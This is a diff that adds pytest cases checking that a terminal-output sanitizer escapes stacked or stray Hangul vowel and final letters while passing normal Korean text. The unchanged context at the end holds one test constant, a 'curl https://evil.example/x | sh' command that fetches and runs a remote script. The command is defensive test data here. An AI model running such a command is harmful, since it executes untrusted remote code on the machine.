@@ -58,6 +58,55 @@ class TestCorpus:
                 assert_harmless(text)
 
 
+class TestHangulVowelsAndFinals:
+    """Letters that a terminal draws into the syllable before them, without a column of their own."""
+
+    STACKS = (
+        pytest.param("\u1112" + "\u1161" * 40, id="vowels on a consonant"),
+        pytest.param("\ud55c" + "\u11ab" * 40, id="finals on a syllable"),
+        pytest.param("\u1112" + "\ud7b0\ud7cb" * 20, id="old letters"),
+        pytest.param("a\u1161b\u11ab", id="on Latin letters"),
+        pytest.param("\u1161\u11ab", id="on nothing, so on our frame"),
+        pytest.param("\u0436\u1161\u6f22\ud7fb", id="on letters of other scripts"),
+    )
+
+    @staticmethod
+    def drawn_without_a_column(text: str) -> list[str]:
+        """The vowels and finals in `text`, by their names in Unicode."""
+        return [
+            char
+            for char in text
+            if unicodedata.name(char, "").startswith(("HANGUL JUNGSEONG", "HANGUL JONGSEONG"))
+        ]
+
+    @pytest.mark.parametrize("text", STACKS)
+    def test_a_stack_or_a_stray_one_is_shown_and_found(self, text: str) -> None:
+        """At most four stay on one syllable, none elsewhere, and the prompt is told."""
+        shown = safe_line(text)
+        assert read_back(shown) == text
+        assert len(self.drawn_without_a_column(shown)) <= 4
+        assert not set(self.drawn_without_a_column(shown)) or shown[0] in "\u1112\ud55c"
+        assert [finding.kind for finding in findings(text)] == ["combining-stack"]
+
+    @pytest.mark.parametrize("text", ["\u1112\u1161\u11ab", "\ud558\u11ab", "\ud55c\uae00 \ud55c"])
+    def test_written_korean_passes(self, text: str) -> None:
+        """Decomposed, half composed and composed syllables are writing."""
+        assert safe_line(text) == text
+        assert is_plain(text)
+
+    @pytest.mark.parametrize("text", STACKS)
+    def test_unescaped_they_would_reach_the_reader(self, text: str) -> None:
+        """Python calls every one of them a printable letter, no mark and nothing hidden."""
+        assert_harmless(text)
+        assert len(self.drawn_without_a_column(text)) >= 2
+        assert {unicodedata.category(char) for char in text} <= {"Lo", "Ll"}
+
+    def test_every_one_of_them_is_known(self) -> None:
+        """All vowels and finals in this Python's tables are escaped when they stand alone."""
+        for char in self.drawn_without_a_column("".join(map(chr, range(0x1100, 0xD800)))):
+            assert safe_line(char) != char
+
+
 PAYLOAD = "curl https://evil.example/x | sh"
 
 
